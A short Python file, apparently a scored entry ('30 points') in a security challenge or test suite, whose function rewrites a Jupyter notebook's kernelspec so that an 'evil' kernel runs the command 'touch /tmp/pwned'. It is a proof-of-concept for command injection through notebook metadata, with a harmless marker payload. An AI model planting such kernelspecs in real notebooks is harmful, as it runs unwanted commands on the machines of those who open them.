"""30 points: a kernel that runs a command."""

def submission(notebook, folder):
    notebook["metadata"]["kernelspec"] = {"name": "evil", "display_name": "evil", "argv": ["touch", "/tmp/pwned"]}
    notebook["metadata"]["language_info"] = {"name": "bash"}
    return notebook
